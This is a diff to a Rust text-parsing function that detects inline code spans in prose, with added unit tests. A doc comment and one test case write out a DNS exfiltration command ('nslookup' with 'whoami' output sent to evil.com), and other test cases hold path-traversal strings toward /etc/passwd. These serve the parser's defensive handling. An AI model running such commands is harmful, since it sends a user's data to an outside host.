@@ -203,18 +203,22 @@ fn after_a_role(before: &[u8]) -> bool {
 }
 
 /// Prose closes code before a space, a line break, punctuation (a dash `—` too), a bracket,
-/// a possessive or a plural (`` `cmd`'s output ``, `` the `Service`s ``).
+/// a possessive or a plural (`` `cmd`'s output ``, `` the `Service`s ``). A dot before a
+/// letter or digit is no full stop but a host name going on: ``nslookup `whoami`.evil.com``
+/// sends a command's output out through DNS.
 fn closes_span(bytes: &[u8], end: usize) -> bool {
     let ends_word = |at: usize| !bytes.get(at).is_some_and(u8::is_ascii_alphanumeric);
     let possessive = bytes.get(end..end + 2) == Some(b"'s") && ends_word(end + 2);
     let plural = bytes.get(end) == Some(&b's') && ends_word(end + 1);
+    let full_stop = bytes.get(end) == Some(&b'.') && ends_word(end + 1);
     possessive
         || plural
+        || full_stop
         || bytes.get(end).is_some_and(|b| !b.is_ascii())
         || bytes.get(end).is_none_or(|b| {
             matches!(
                 b,
-                b' ' | b'\t' | b'\n' | b'\r' | b'.' | b',' | b':' | b'!' | b'?' | b')' | b']'
+                b' ' | b'\t' | b'\n' | b'\r' | b',' | b':' | b'!' | b'?' | b')' | b']'
             )
         })
 }
@@ -248,6 +252,7 @@ mod tests {
                 "how do i run   in a folder?",
             ),
             ("`whoami` prints the user.", "  prints the user."),
+            ("it ends with `make install`.", "it ends with  ."),
             ("try `a` then `b`, or (`c`).", "try   then  , or ( )."),
             (
                 "my script:\n```bash\n#!/bin/bash\nnode server.js\n```\nit fails.",
@@ -317,6 +322,7 @@ mod tests {
             "[a](../../../etc/passwd)",
             "words and words x[y]: ../../etc",
             "words and words [y]:../../etc",
+            "nslookup `whoami`.evil.com and more words",
         ] {
             assert_eq!(without_quoted_code(text), None, "{text}");
         }
